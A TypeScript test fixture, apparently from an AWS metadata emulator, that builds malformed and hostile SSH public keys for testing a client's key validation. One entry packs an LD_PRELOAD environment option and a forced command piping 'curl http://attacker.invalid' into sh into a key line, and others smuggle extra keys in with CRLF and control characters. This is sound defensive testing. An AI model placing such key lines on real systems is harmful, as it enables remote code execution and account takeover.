import { generateKeyPairSync } from 'node:crypto';

// The public keys the emulator serves: the configured ones, and for the invalid-keys
// scenario keys a client must refuse or defuse, each under a key pair name saying what is
// wrong with it, so a test can match the client's warnings to entries.

export interface ServedKey {
  name: string;
  /** Exactly the bytes served at public-keys/N/openssh-key. */
  key: string;
}

/** The key pair name AWS would list: the key's comment, else key-N. */
export function keyName(text: string, index: number): string {
  const comment = /^\S+\s+\S+\s+(.+)$/.exec(text.trim())?.[1]?.trim();
  return comment && !/[\0-\x1f\x7f]/.test(comment) ? comment : `key-${index}`;
}

function sshString(data: Buffer | string): Buffer {
  const body = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  const len = Buffer.alloc(4);
  len.writeUInt32BE(body.length);
  return Buffer.concat([len, body]);
}

/** A fresh, well-formed ed25519 public key blob (base64), as ssh-keygen would write it. */
export function ed25519Blob(): string {
  const jwk = generateKeyPairSync('ed25519').publicKey.export({ format: 'jwk' });
  return Buffer.concat([sshString('ssh-ed25519'), sshString(Buffer.from(jwk.x ?? '', 'base64url'))]).toString('base64');
}

export function ed25519Line(comment: string): string {
  return `ssh-ed25519 ${ed25519Blob()} ${comment}`;
}

export function invalidKeys(): ServedKey[] {
  const valid = ed25519Blob();
  return [
    { name: 'invalid-bad-base64', key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA!!not*base64 invalid-bad-base64' },
    { name: 'invalid-truncated-base64', key: `ssh-ed25519 ${valid.slice(0, 40)} invalid-truncated-base64` },
    // A genuine ed25519 blob under another type name: only decoding the blob catches it.
    { name: 'invalid-wrong-inner-type', key: `ssh-rsa ${valid} invalid-wrong-inner-type` },
    // environment= (LD_PRELOAD into the session) widens what the key may do: refused while allow_options is off.
    { name: 'invalid-option-injection', key: `environment="LD_PRELOAD=/tmp/evil.so",command="/bin/sh -c 'curl -s http://attacker.invalid | sh'",no-pty ssh-ed25519 ${ed25519Blob()} invalid-option-injection` },
    { name: 'invalid-crlf-injection', key: `ssh-ed25519 ${ed25519Blob()} first\r\nssh-ed25519 ${ed25519Blob()} invalid-crlf-injected` },
    { name: 'invalid-lf-injection', key: `ssh-ed25519 ${ed25519Blob()} first\nssh-ed25519 ${ed25519Blob()} invalid-lf-injected` },
    { name: 'invalid-control-chars', key: `ssh-ed25519 ${ed25519Blob()} invalid\x1b[2J\x00control-chars` },
    { name: 'invalid-100k-line', key: `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAA${'A'.repeat(100 * 1024)} invalid-100k-line` },
  ];
}
